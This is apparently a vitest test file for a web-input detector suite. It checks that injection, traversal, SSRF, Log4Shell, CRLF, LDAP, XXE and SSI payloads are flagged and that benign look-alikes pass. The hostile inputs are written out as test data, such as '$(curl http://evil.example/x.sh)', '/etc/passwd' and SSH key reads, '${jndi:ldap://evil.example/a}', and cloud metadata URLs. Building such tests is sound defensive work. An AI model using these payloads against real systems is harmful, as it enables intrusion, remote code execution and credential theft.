import { describe, expect, it } from 'vitest';
import { createCmdiDetector } from '../../../src/verifiers/payload-shield/cmdi.js';
import { createCrlfDetector } from '../../../src/verifiers/payload-shield/crlf.js';
import { createJndiDetector, resolveLog4jNesting } from '../../../src/verifiers/payload-shield/jndi.js';
import { createLdapiDetector } from '../../../src/verifiers/payload-shield/ldapi.js';
import { createNosqliDetector } from '../../../src/verifiers/payload-shield/nosqli.js';
import { createSsiDetector } from '../../../src/verifiers/payload-shield/ssi.js';
import { classifyHost, createSsrfDetector } from '../../../src/verifiers/payload-shield/ssrf.js';
import { createSstiDetector } from '../../../src/verifiers/payload-shield/ssti.js';
import { createTraversalDetector } from '../../../src/verifiers/payload-shield/traversal.js';
import { createXxeDetector } from '../../../src/verifiers/payload-shield/xxe.js';
import { ruleOf, valueOf } from './helpers.js';

describe('NoSQL injection', () => {
  const d = createNosqliDetector();
  it('flags Mongo operator keys, not JSON-Schema keys', () => {
    for (const key of ['$ne', '$gt', '$where', '$regex', '$in', '$expr']) {
      expect(d.detect(valueOf(key, 'body', key, 'key'), 1)?.ruleId).toBe('nosqli-operator-key');
    }
    for (const key of ['$ref', '$schema', '$id', '$defs', '$comment', 'price$']) {
      expect(d.detect(valueOf(key, 'body', key, 'key'), 1)).toBeUndefined();
    }
  });
  it('flags operators spelled in bracket syntax in a flat key (a form body parsed without qs)', () => {
    for (const key of ['username[$ne]', 'password[$regex]', 'a[b][$gt]', 'x[$NE]', 'items[0][$where]']) {
      expect(d.detect(valueOf(key, 'body', key.toLowerCase(), 'key'), 1)?.ruleId, key).toBe('nosqli-operator-key');
    }
    for (const key of ['price[$]', 'a[$ref]', 'cost[$usd]', 'tags[]', 'a[$ne', '[$schema]', '$ne[x]']) {
      expect(d.detect(valueOf(key, 'body', key.toLowerCase(), 'key'), 1), key).toBeUndefined();
    }
  });
  it('flags operators spelled in dotted syntax in a flat key (a query parser with dots on, qs allowDots)', () => {
    for (const key of ['password.$ne', 'a.b.$gt', 'x.$NE', 'items[0].$where', 'a.$in.b', 'a.$ref.$regex']) {
      expect(d.detect(valueOf(key, 'query', key.toLowerCase(), 'key'), 1)?.ruleId, key).toBe('nosqli-operator-key');
    }
    for (const key of ['price.$', 'a.$ref', 'cost.$usd', 'a.$nex', 'a$.ne', 'v1.$schema.id', '$ne.x']) {
      expect(d.detect(valueOf(key, 'query', key.toLowerCase(), 'key'), 1), key).toBeUndefined();
    }
  });
  it.each([
    ["{$gt: ''}", 'nosqli-operator-in-string'],
    ["true, $where: '1 == 1'", 'nosqli-operator-in-string'],
    ["' && this.password.match(/.*/)//", 'nosqli-server-javascript'],
    ['0;return true', 'nosqli-server-javascript'],
    ['db.users.find({})', 'nosqli-server-javascript'],
    ["';var d=new Date();do{var c=new Date();}while(c-d<5000);", 'nosqli-server-javascript'],
    ["'; for(var s=Date.now(); Date.now()-s<3000;){}", 'nosqli-server-javascript'],
  ])('flags %s', (input, rule) => expect(ruleOf(d, input)).toBe(rule));
  it.each(['$5 off', 'cost: $10', 'return policy', 'this.is fine', 'new date (tbc) while (we wait)', 'let d = new Date(); render(d);', 'wait for (new) date'])(
    'passes %s',
    (input) => expect(ruleOf(d, input)).toBeUndefined(),
  );
});

describe('path traversal / LFI', () => {
  const d = createTraversalDetector();
  it.each([
    '../../../etc/passwd',
    '..\\..\\windows\\win.ini',
    '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
    '%252e%252e%252fetc%252fpasswd',
    '%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd',
    '....//....//etc/passwd',
    '/proc/self/environ',
    'C:\\Windows\\System32\\drivers\\etc\\hosts',
    'php://filter/convert.base64-encode/resource=index.php',
    '%uff0e%uff0e%u2215%uff0e%uff0e%u2215etc/passwd',
    '/home/app/.ssh/id_rsa',
  ])('flags %s', (input) => expect(ruleOf(d, input)).toBeDefined());
  it.each([
    'C:\\Users\\me\\report.docx',
    'C:\\\\Users',
    '/repos/octo/hello/compare/main...dev',
    'wait... what?',
    'images/2024/cat.png',
    'see https://example.com/etc',
    'file:///folder/file.json',
    // A system path mentioned in prose is not a file-inclusion probe; one given as the value is.
    'The binary lives in /usr/local/bin on Linux',
    'see /etc/hosts for the config',
    'C:\\Program Files\\App\\app.exe',
  ])('passes %s', (input) => expect(ruleOf(d, input)).toBeUndefined());
  it.each(['/usr/local/bin/php', 'file=/etc/hosts', '/etc/hosts%00.png'])('flags the bare path %s', (input) =>
    expect(ruleOf(d, input)).toBeDefined(),
  );
});

describe('command injection', () => {
  const d = createCmdiDetector();
  it.each([
    '; cat /etc/passwd',
    '| id',
    '&& whoami',
    '`uname -a`',
    '$(curl http://evil.example/x.sh)',
    '127.0.0.1; ping -c 3 10.0.0.1',
    '|/usr/bin/id|',
    'x;${IFS}cat${IFS}/etc/passwd',
    '& ipconfig /all',
    "exec('whoami')",
    'ls -la /etc',
    'dir C:\\',
    '\\nid;',
  ])('flags %s', (input) => expect(ruleOf(d, input)).toBeDefined());
  it.each(['Tom & Jerry', 'rock; roll', 'Q&A session', 'cats | dogs', 'salt & pepper; more salt', 'R&D; Python developer', 'id card lost', 'net income (2023)', 'exec(summary)', 'Set it to `true`, not `false`.', 'Only valid in\nRuby 2.3+.', '```ruby\nputs 1\n```', 'the `id` field'])(
    'passes %s',
    (input) => expect(ruleOf(d, input)).toBeUndefined(),
  );
});

describe('server-side template injection', () => {
  const d = createSstiDetector();
  it.each(['{{7*7}}', '${7*7}', "{{''.__class__.__mro__[1].__subclasses__()}}", '{{config.items()}}', '<#assign ex="freemarker.template.utility.Execute"?new()>', '{php}echo `id`;{/php}', '#{7*7}'])(
    'flags %s',
    (input) => expect(ruleOf(d, input)).toBeDefined(),
  );
  it.each(['Hello {{name}}', 'Total: ${price}', '{"a": 1}', 'use #{hashtag}'])('passes %s', (input) => expect(ruleOf(d, input)).toBeUndefined());
});

describe('SSRF', () => {
  const d = createSsrfDetector();
  it('classifies internal hosts in every spelling (ipaddr.js)', () => {
    for (const host of ['127.0.0.1', '2130706433', '0x7f000001', '0177.0.0.1', '127.1', '[::1]', '::ffff:127.0.0.1', '10.0.0.8', '192.168.1.1', 'localhost', 'foo.localhost']) {
      expect(classifyHost(host), host).toBe('ssrf-internal-host');
    }
    for (const host of ['169.254.169.254', '[fd00:ec2::254]', 'metadata.google.internal']) expect(classifyHost(host), host).toBe('ssrf-cloud-metadata');
    for (const host of ['example.com', '8.8.8.8', '2606:4700::1111']) expect(classifyHost(host), host).toBeUndefined();
  });
  it.each([
    ['http://169.254.169.254/latest/meta-data/', 'config'],
    ['http://0x7f000001/', 'data'],
    ['https://example.com@127.0.0.1', 'x'],
    ['http://127.1.1.1:80\\@127.2.2.2:80/', 'x'],
    ['gopher://localhost:6379/_INFO', 'x'],
    ['http://localhost:8080/admin', 'callback_url'],
    ['127.0.0.1', 'webhook'],
    // A value that is a URL to an internal host is SSRF whatever the parameter is called.
    ['http://127.0.0.1:8080/admin', 'comment'],
    ['http://[::1]/', 'q'],
  ])('flags %s (in %s)', (input, name) => expect(ruleOf(d, input, 'body', name)).toBeDefined());
  it.each([
    ['https://api.github.com/repos/x', 'url'],
    ['http://localhost:1234/schema.json', '$id'],
    ['http://localhost:1234/draft2020-12/tree', '$ref'],
    ['http://localhost/ns', '@id'],
    ['127.0.0.1', 'note'],
    ['my dev server is http://localhost:3000 for now', 'comment'],
    ['https://8.8.8.8/', 'url'],
  ])('passes %s (in %s)', (input, name) => expect(ruleOf(d, input, 'body', name)).toBeUndefined());
});

describe('JNDI / Log4Shell', () => {
  const d = createJndiDetector();
  it('resolves nested lookups', () => {
    expect(resolveLog4jNesting('${${lower:j}${upper:n}${::-d}i:ldap://x}')).toBe('${jndi:ldap://x}');
  });
  it.each(['${jndi:ldap://evil.example/a}', '${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x/a}', '${env:AWS_SECRET_ACCESS_KEY}', '$%7Bjndi:dns://x%7D'])(
    'flags %s',
    (input) => expect(ruleOf(d, input, 'header', 'user-agent')).toBeDefined(),
  );
  it.each(['${name}', 'Price: ${amount}', 'cost is $5 {approx}'])('passes %s', (input) => expect(ruleOf(d, input)).toBeUndefined());
});

describe('CRLF injection', () => {
  const d = createCrlfDetector();
  it.each(['/%0d%0aSet-Cookie:crlf=injection', '/%250aSet-Cookie:x=1', 'x%u000aLocation: http://evil.example'])('flags %s', (input) =>
    expect(ruleOf(d, input, 'path')).toBeDefined(),
  );
  it('lets multi-line prose in a body pass', () => {
    expect(ruleOf(d, 'Dear team,\nNote: the meeting moved.\nThanks', 'body')).toBeUndefined();
  });
});

describe('LDAP injection', () => {
  const d = createLdapiDetector();
  it.each(['*)(uid=*))(|(uid=*', 'admin*)((|userpassword=*)', '*(|(mail=*))'])('flags %s', (input) => expect(ruleOf(d, input)).toBeDefined());
  it.each(['admin*', 'John (Johnny) Smith', '(555) 123-4567'])('passes %s', (input) => expect(ruleOf(d, input)).toBeUndefined());
});

describe('XXE', () => {
  const d = createXxeDetector();
  it.each([
    '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>',
    '<!DOCTYPE foo SYSTEM "http://evil.example/x.dtd">',
    '<root xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd"/></root>',
  ])('flags %s', (input) => expect(ruleOf(d, input)).toBeDefined());
  it('passes plain XML', () => expect(ruleOf(d, '<?xml version="1.0"?><order><id>3</id></order>')).toBeUndefined());
});

describe('SSI / ESI', () => {
  const d = createSsiDetector();
  it.each(['<!--#exec cmd="id" -->', '<!--#include virtual="/etc/passwd" -->', '<esi:include src="http://evil.example/"/>'])('flags %s', (input) =>
    expect(ruleOf(d, input)).toBeDefined(),
  );
  it('passes an HTML comment', () => expect(ruleOf(d, '<!-- just a note -->')).toBeUndefined());
});
